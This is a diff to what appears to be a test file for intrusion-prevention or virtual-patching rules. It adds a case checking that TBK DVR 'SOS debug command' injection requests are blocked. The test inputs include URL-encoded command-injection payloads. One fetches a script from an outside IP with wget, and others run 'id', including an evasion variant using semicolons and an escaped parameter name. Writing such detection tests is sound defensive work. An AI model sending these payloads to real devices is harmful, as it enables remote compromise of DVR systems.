@@ -328,10 +328,13 @@ def virtual_patch_cases() -> None:
         [_request("POST", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos&mdc=cd%20%2Ftmp%3Bwget%20http%3A%2F%2F203.0.113.9%2Ft.sh",
                   headers=b"Cookie: uid=1\r\n"),
          _request("GET", "/device.rsp?opt=sys&cmd=%5F%5F%5FS_O_S_T_R_E_A_MAX___&mdb=sos&mdc=id",
+                  headers=b"Cookie: uid=1\r\n"),
+         _request("GET", "/device.rsp?opt=sys;cmd=___S_O_S_T_R_E_A_MAX___;mdb=sos;%6ddc=id",
                   headers=b"Cookie: uid=1\r\n")],
         [_request("GET", "/device.rsp?opt=user&cmd=list"),
          _request("GET", "/device.rsp?opt=sys&cmd=___S_O_S_T_R_E_A_MAX___&mdb=sos")],
-        {9100040: 2}, "TBK DVR: the SOS debug command with an mdc command drops; other device.rsp calls pass")
+        {9100040: 3}, "TBK DVR: the SOS debug command with an mdc command (after & or ;, its "
+        "name escaped or not) drops; other device.rsp calls pass")
     _vpatch_case(
         "vpatch-zyxel-cve-2017-18368", (9100109, 9100113),
         [_request("POST", "/cgi-bin/ViewLog.asp",
